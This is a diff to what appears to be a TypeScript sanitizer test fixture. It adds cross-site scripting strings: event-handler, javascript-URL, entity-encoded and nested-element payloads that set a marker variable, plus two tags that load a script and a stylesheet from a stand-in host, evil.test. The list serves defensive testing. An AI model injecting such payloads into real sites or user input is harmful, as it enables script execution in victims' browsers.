@@ -30,3 +30,31 @@ const contexts = [
 
 /** 120 strings that run somewhere. */
 export const hostileStrings: readonly string[] = contexts.flatMap((wrap) => payloads.map(wrap));
+
+/** Rarer ways to run: old elements, odd spellings, addresses, entities and what other languages take for code. */
+const rarer = [
+  "<body onload=window.ran=1>",
+  "<video><source onerror=window.ran=1></video>",
+  "<audio src=x onerror=window.ran=1>",
+  "<marquee onstart=window.ran=1>x</marquee>",
+  "<object data=javascript:window.ran=1></object>",
+  "<embed src=javascript:window.ran=1>",
+  "<math><mtext><script>window.ran=1</script></mtext></math>",
+  "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
+  "<template><script>window.ran=1</script></template>",
+  "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
+  "<select autofocus onfocus=window.ran=1><option>x</select>",
+  "<textarea autofocus onfocus=window.ran=1></textarea>",
+  "<keygen autofocus onfocus=window.ran=1>",
+  "<link rel=stylesheet href=//evil.test/x.css>",
+  "<script src=//evil.test/x.js></script>",
+  "&lt;script&gt;window.ran=1&lt;/script&gt;<script>window.ran=1</script>",
+  "<img/src='x'/onerror=window.ran=1>",
+  "<a href='java&#115;cript:window.ran=1'>x</a>",
+] as const;
+
+/** 300 strings: those, and the rarer ones in every place. */
+export const manyHostileStrings: readonly string[] = [
+  ...hostileStrings,
+  ...contexts.flatMap((wrap) => rarer.map(wrap)),
+];
